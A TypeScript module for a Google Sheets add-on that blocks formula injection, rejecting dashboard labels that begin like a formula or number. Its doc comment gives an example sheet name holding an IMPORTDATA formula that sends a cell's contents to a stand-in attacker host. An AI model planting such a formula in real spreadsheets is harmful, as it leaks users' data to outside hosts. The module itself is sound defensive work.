/**
 * Text the dashboard writes into cells. Range.setValues parses a string as if a person typed it
 * (https://developers.google.com/apps-script/reference/spreadsheet/range#setvaluesvalues), so a
 * label that starts with `=` (or `+`, `-`, `@`, which Sheets' editor also turns into formulas)
 * would become a live formula: a sheet named `=IMPORTDATA("https://evil.example/?d="&Notes!A1)&"!x`
 * must never reach a cell as the start of a value. Every label built from a sheet's text is
 * composed so that it begins with the add-on's own words or cell letters, and goes through
 * inertLabel, which refuses anything else. Formulas are only those the add-on composes, with
 * quoted references, and are written with setFormula.
 */

/** The characters that make Sheets read typed input as a formula, a number or a quote prefix. */
const FORMULA_START = /^[\s\u00a0]*[=+\-@'0-9.]/;

/** True when Sheets would read this text as the text itself. */
export function isInert(text: string): boolean {
  return !FORMULA_START.test(text);
}

/** The label, checked: it must start with text Sheets keeps as text (composition is the guard). */
export function inertLabel(text: string): string {
  if (!isInert(text)) throw new Error(`internal: a dashboard label must not start like a formula or number: ${JSON.stringify(text.slice(0, 40))}`);
  return text;
}
